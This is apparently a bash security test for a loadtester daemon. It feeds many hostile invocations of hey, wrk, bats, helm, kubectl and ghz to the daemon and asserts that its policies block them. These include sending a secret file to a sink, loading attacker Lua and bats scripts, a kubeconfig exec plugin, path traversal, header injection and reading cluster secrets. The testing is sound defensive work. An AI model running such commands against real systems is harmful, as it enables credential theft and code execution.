# The policies of deploy/loadtester/policies against the tools themselves: ways that lead out of what they are for. A
# way that is refused (403, 400) is held. What is let must have run without leaving a mark: no file of the attacker was
# read, written or executed.

policies=$(printf '%s,' deploy/loadtester/policies/*.yaml)
policies=${policies%,}

. test/lib/sink.bash

# What an attacker would show: a secret that the task user may read, programs that leave a mark.
prepare() {
    echo geheim-token >"$work/secret"
    printf '#!/bin/sh\ntouch %s/mark\n' "$work" >"$work/evil"
    printf 'os.execute("touch %s/mark")\n' "$work" >"$work/evil.lua"
    printf '@test "a" { touch %s/mark; }\n' "$work" >"$work/evil.bats"
    printf 'syntax = "proto3";\n' >"$work/evil.proto"
    printf 'users: [{name: a, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: %s/evil, interactiveMode: Never}}}]\nclusters: [{name: a, cluster: {server: "%s"}}]\ncontexts: [{name: a, context: {user: a, cluster: a}}]\ncurrent-context: a\napiVersion: v1\nkind: Config\n' "$work" "$SINK" >"$work/kubeconfig"
    chmod 755 "$work/evil" && chmod 644 "$work"/secret "$work"/evil.* "$work/kubeconfig"
    ln -sf "$work/evil" "$work/kubectl-evil"
}

ways_of() {
    case $1 in
    hey) cat <<WAYS ;;
hey -n 1 -c 1 -m POST -D $work/secret $SINK/
hey -n 1 -c 1 -m POST -D=$work/secret $SINK/
hey -n 1 -c 1 -m POST --D $work/secret $SINK/
hey -n 1 -c 1 -m POST --D=$work/secret $SINK/
hey -n 1 -c 1 $SINK/ -m POST -D $work/secret
hey -n 1 -c 1 -m POST '-D$work/secret' $SINK/
hey -n 1 -c 1 -m POST '-D' '$work/secret' $SINK/
hey -n 1 -c 1 -d '@$work/secret' -m POST -D $work/secret $SINK/
hey -n 1 -c 1 -x 127.0.0.1:${SINK##*:} http://podinfo/geheim-token
hey -n 1 -c 1 -x=127.0.0.1:${SINK##*:} http://podinfo/geheim-token
hey -n 1 -c 1 -a geheim-token:x $SINK/
hey -n 1 -c 1 -H 'Authorization: geheim-token' $SINK/
hey -n 1 -c 1 -H 'authorization: geheim-token' $SINK/
hey -n 1 -c 1 -H 'Proxy-Authorization: geheim-token' $SINK/
hey -n 1 -c 1 http://geheim-token:x@localhost:${SINK##*:}/
hey -n 1 -c 1 http://127.0.0.1:${SINK##*:}/geheim-token
hey -n 1 -c 1 http://2130706433:${SINK##*:}/geheim-token
hey -n 1 -c 1 'http://[::1]/geheim-token'
hey -n 1 -c 1 file://$work/secret
hey -n 1 -c 1 -o $work/mark $SINK/
hey -n 1 -c 1 -- $SINK/geheim-token
hey -n 1 -c 1 -m 'POST / HTTP/1.1\r\nX: geheim-token' $SINK/
$work/evil
./hey $SINK/geheim-token
/usr/bin/hey -m POST -D $work/secret $SINK/
WAYS
    wrk) cat <<WAYS ;;
wrk -t1 -c1 -d1s -s $work/evil.lua $SINK/
wrk -t1 -c1 -d1s -s$work/evil.lua $SINK/
wrk -t1 -c1 -d1s --script=$work/evil.lua $SINK/
wrk -t1 -c1 -d1s --script $work/evil.lua $SINK/
wrk -t1 -c1 -d1s --scr=$work/evil.lua $SINK/
wrk -t1 -c1 -d1s --s $work/evil.lua $SINK/
wrk $SINK/ -t1 -c1 -d1s -s $work/evil.lua
wrk -t1 -c1 -d1ss$work/evil.lua $SINK/
wrk -Ls $work/evil.lua -t1 -c1 -d1s $SINK/
wrk -t1 -c1 -d1s -H 'Authorization: geheim-token' $SINK/
wrk -t1 -c1 -d1s '-HAuthorization: geheim-token' $SINK/
wrk -t1 -c1 -d1s -- $SINK/ -s $work/evil.lua
WAYS
    bats) cat <<WAYS ;;
bats $work/evil.bats
bats /tests/../$work/evil.bats
bats /tests/..
bats -F $work/evil /tests
bats --formatter $work/evil /tests
bats --formatter=$work/evil /tests
bats --report-formatter $work/evil -o $work /tests
bats -c $work/evil.bats
bats -r /tests $work
bats -t -- $work/evil.bats
bats --code-quote-style custom $work/evil.bats
WAYS
    helm) sed "s/^/helm /" <<WAYS ;;
install a $work --post-renderer $work/evil
template a $work --post-renderer=$work/evil
test a --post-renderer $work/evil
test a --kubeconfig $work/kubeconfig
test a --kubeconfig=$work/kubeconfig
test --kubeconfig $work/kubeconfig a
--kubeconfig $work/kubeconfig test a
test a --kube-apiserver $SINK --kube-token geheim-token
test a --kube-token=geheim-token --kube-apiserver=$SINK
test a --kube-ca-file $work/secret
test a --kube-context a
test a --kube-as-user system:admin
test a --registry-config $work/secret
test a --repository-config $work/secret
test a -n test --repository-cache=$work
test a -nkube-system
test a --filter name=a,b --kubeconfig=$work/kubeconfig
test ../a
test a b
get values a
get all a
upgrade a $work
uninstall a
plugin install $work
evil
list -A
env
show all $work
repo add a $SINK/geheim-token
pull $SINK/geheim-token
-- test a
WAYS
    kubectl) sed "s/^/kubectl /" <<WAYS ;;
config set-credentials a --exec-command=$work/evil --exec-api-version=client.authentication.k8s.io/v1
config set-cluster a --server=$SINK
config view --raw
--kubeconfig $work/kubeconfig get pods
get pods --kubeconfig=$work/kubeconfig
get pods --kubeconfig $work/kubeconfig
get pods -n test --kubeconfig=$work/kubeconfig
get pods --server=$SINK --token=geheim-token
get pods -s $SINK --token geheim-token
get pods -s=$SINK
get pods -s$SINK
get pods --token=geheim-token --server $SINK
get pods --certificate-authority=$work/secret
get pods --client-certificate $work/secret
get pods --as=system:admin
get pods --as-group system:masters
get pods --context a
get pods --user=a
get pods --cache-dir $work/mark
get pods --profile=cpu --profile-output=$work/mark
get pods --v=9
get --raw /api/v1/secrets
get secrets
get secret a -o yaml
get pods,secrets
get pods/a secrets/b
get secrets.v1.
get SECRETS
get -f $work/secret
get -k $work
get pods -o jsonpath-file=$work/secret
get pods -o go-template-file=$work/secret
get pods -o custom-columns-file=$work/secret
get pods -o go-template --template=$work/secret
get pods -o=jsonpath-file=$work/secret
get pods -ojsonpath-file=$work/secret
create -f $work/secret
apply -f $SINK/geheim-token
exec a -- id
cp a:/x $work/mark
port-forward a 1
proxy --port=0
run a --image=x
delete pods a
edit pods a
logs a
debug a
attach a
kustomize $work
plugin list
evil
diff -f $work/secret
rollout restart deployment/a
rollout undo deployment/a
scale deployment/a --replicas=0
patch pods a -p x
wait pods/a --for=jsonpath={.a}=b --kubeconfig=$work/kubeconfig
-- get pods
WAYS
    ghz) sed "s/^/ghz /" <<WAYS ;;
--config $work/secret localhost:1
--insecure --proto $work/evil.proto --call a.B/c localhost:1
--insecure --proto /tmp/ghz/../$work/evil.proto --call a.B/c localhost:1
--insecure --call a.B/c -D $work/secret localhost:1
--insecure --call a.B/c --data-file=$work/secret localhost:1
--insecure --call a.B/c -B $work/secret localhost:1
--insecure --call a.B/c -d @ localhost:1
--insecure --call a.B/c -d '{"a": "{{env \"HOME\"}}"}' localhost:1
--insecure --call a.B/c -m '{"authorization": "geheim-token"}' localhost:1
--insecure --call a.B/c -o $work/mark localhost:1
--insecure --call a.B/c --output=$work/mark localhost:1
--insecure --call a.B/c --protoset $work/secret localhost:1
--cacert $work/secret --call a.B/c localhost:1
--cert $work/secret --key $work/secret --call a.B/c localhost:1
--insecure --call a.B/c @$work/secret
--insecure --call @$work/secret localhost:1
@$work/secret
--insecure --call a.B/c --debug $work/mark localhost:1
--insecure --call a.B/c -i $work localhost:1
--insecure --call a.B/c --stream-call-count 1 127.0.0.1:1
--insecure --call a.B/c --proto /tmp/ghz/health.proto --proto $work/evil.proto localhost:1
--insecure --call a.B/c --proto /protos/../../../$work/evil.proto localhost:1
--insecure --call a.B/c --proto=/tmp/ghz/.$work/evil.proto localhost:1
--insecure --call a.B/c --proto file:///$work/evil.proto localhost:1
--insecure --call a.B/c -do$work/mark localhost:1
--insecure --call a.B/c -n1o$work/mark localhost:1
--insecure --call a.B/c -bo $work/mark localhost:1
--insecure --call a.B/c -O html -o $work/mark localhost:1
--insecure --call a.B/c -O influx-details localhost:1
--insecure --call a.B/c --binary-file=$work/secret localhost:1
--insecure --call a.B/c -M $work/secret localhost:1
--insecure --call a.B/c --metadata-file=$work/secret localhost:1
--insecure --call a.B/c --reflect-metadata '{"authorization": "geheim-token"}' localhost:1
--insecure --call a.B/c -d '@$work/secret' localhost:1
--insecure --call a.B/c -d '{"a": "{{ readFile \"$work/secret\" }}"}' localhost:1
--insecure --call a.B/c --authority geheim-token localhost:1
--insecure --call a.B/c --lb-strategy round_robin dns:///localhost:${SINK##*:}
--insecure --call a.B/c unix:$work/socket
--insecure --call a.B/c localhost:1 @$work/secret
--insecure --call a.B/c --tags '{"a": "geheim-token"}' localhost:${SINK##*:}
--skipTLS --cname geheim-token --call a.B/c localhost:${SINK##*:}
--insecure --call a.B/c -- localhost:1 $work/secret
WAYS
    esac
}

# What must work, or a policy is safe by letting nothing.
good_of() {
    case $1 in
    hey) echo "hey -n 2 -c 1 -H 'X-Canary: insider' -m POST -d '{\"a\": 1}' $SINK/good" ;;
    wrk) echo "wrk -t1 -c 1 -d1s --latency $SINK/good" ;;
    bats) echo 'bats --tap /tests/none.bats' ;;
    helm) echo 'helm test podinfo --namespace test --timeout 1s' ;;
    kubectl) echo 'kubectl get pods -n test -l app=podinfo -o wide --request-timeout=1s' ;;
    ghz) echo "ghz --insecure --proto /tmp/ghz/health.proto --call grpc.health.v1.Health/Check -n 1 -c 1 -d '{\"service\": \"a\"}' localhost:1" ;;
    esac
}

status_of() { # COMMAND, as a check that runs a program and, for helm and kubectl, as their own types
    code=$(curl -s -m 20 -o "$work/body" -w '%{http_code}' --data-binary "$(task bash "$1")" "$DAEMON_URL/" || true)
}

marked() { [ -e "$work/mark" ] || grep -qs geheim-token "$work/sink" || grep -qs geheim-token "$work/body"; }

try_tool() { # TOOL
    local tool=$1 way ways=0 let=0 got=0 good=/nothing
    command -v "$tool" >/dev/null || { skip "the policy of $tool" "there is no $tool"; return; }
    while IFS= read -r way; do
        rm -f "$work/mark" "$work/sink"
        ways=$((ways + 1))
        status_of "$way"
        [ "$code" = 403 ] || [ "$code" = 400 ] || let=$((let + 1))
        if marked; then got=$((got + 1)) && echo "           got through: $way"; fi
        case $tool in
        helm | kubectl)
            code=$(curl -s -m 20 -o "$work/body" -w '%{http_code}' --data-binary "$(task "$tool" "${way#* }")" "$DAEMON_URL/" || true)
            [ "$code" = 403 ] || [ "$code" = 400 ] || let=$((let + 1))
            if marked; then got=$((got + 1)) && echo "           got through: $way"; fi
            ;;
        esac
    done < <(ways_of "$tool")
    status_of "$(good_of "$tool")"
    [ "$got" = 0 ] && [ "$let" = 0 ] && [ "$code" != 403 ] && [ "$code" != 400 ] && good=ok
    report "the policy of $tool" "$ways ways, $let let, $got got through; what it is for was answered $code" "$good"
}

if command -v python3 >/dev/null; then
    sink_start 200 ''
    SINK=${SINK/127.0.0.1/localhost}
    prepare
    daemon_start env PATH="$PATH:$work" "$LOADTESTER" "${user[@]}" --policy "$policies" --timeout 10s
    for tool in hey wrk bats helm kubectl ghz; do try_tool "$tool"; done
    daemon_stop
else
    skip 'the policies' 'there is no python3 for a server of the attacker'
fi
